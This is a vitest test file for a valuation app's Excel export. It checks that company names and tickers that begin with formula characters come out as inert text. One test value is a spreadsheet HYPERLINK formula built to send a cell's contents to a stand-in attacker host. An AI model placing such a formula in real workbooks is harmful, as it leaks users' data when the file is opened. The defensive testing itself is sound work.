/**
 * Issue 12: text from users and documents (a company's name, its stock code) that starts like a
 * formula reaches the downloaded workbook as text a spreadsheet never evaluates.
 */

import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dcfModels } from '../../db/schema.js';
import { createModelAndWait } from '../../test/models.js';
import { signInAsTemp, startTestApp, type TestApp } from '../../test/test-app.js';

let t: TestApp;
let token: string;
let modelId: string;
beforeAll(async () => {
  t = await startTestApp();
  ({ token } = await signInAsTemp(t));
  modelId = await createModelAndWait(t, token, 'NVDA');
});
afterAll(() => t.close());

const HOSTILE_NAME = '=HYPERLINK("http://attacker.test/?d="&B5,"Open")';

describe('a workbook of a company whose name and code start like formulas', () => {
  it('holds them as text with a leading apostrophe, never as formulas', async () => {
    // A private company's name and stock code are what the user typed; a listed one's come from filings.
    const [row] = await t.database.db.select().from(dcfModels).where(eq(dcfModels.id, modelId));
    const company = row?.company as Record<string, unknown>;
    await t.database.db
      .update(dcfModels)
      .set({ company: { ...company, name: HOSTILE_NAME, ticker: '@SUM(1+1)', industry: '-2+3' } })
      .where(eq(dcfModels.id, modelId));
    const response = await fetch(`${t.baseUrl}/v1/model/dcf/download?model_id=${modelId}`, {
      headers: { authorization: token },
    });
    expect(response.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await response.arrayBuffer()) as never);
    const cover = book.getWorksheet('Cover');
    expect(cover?.getCell('A1').value).toBe(`'${HOSTILE_NAME} (@SUM(1+1))`);
    const facts = new Map<string, unknown>();
    cover?.eachRow((line) => facts.set(String(line.getCell(1).value), line.getCell(2).value));
    expect(facts.get('Ticker')).toBe("'@SUM(1+1)");
    expect(facts.get('Industry')).toBe("'-2+3");
    book.eachSheet((sheet) =>
      sheet.eachRow((line) =>
        line.eachCell((cell) => {
          const formula = (cell.value as { formula?: string } | null)?.formula ?? '';
          expect(formula, `${sheet.name}!${cell.address}`).not.toMatch(/HYPERLINK|SUM\(1\+1\)/);
        }),
      ),
    );
  });
});
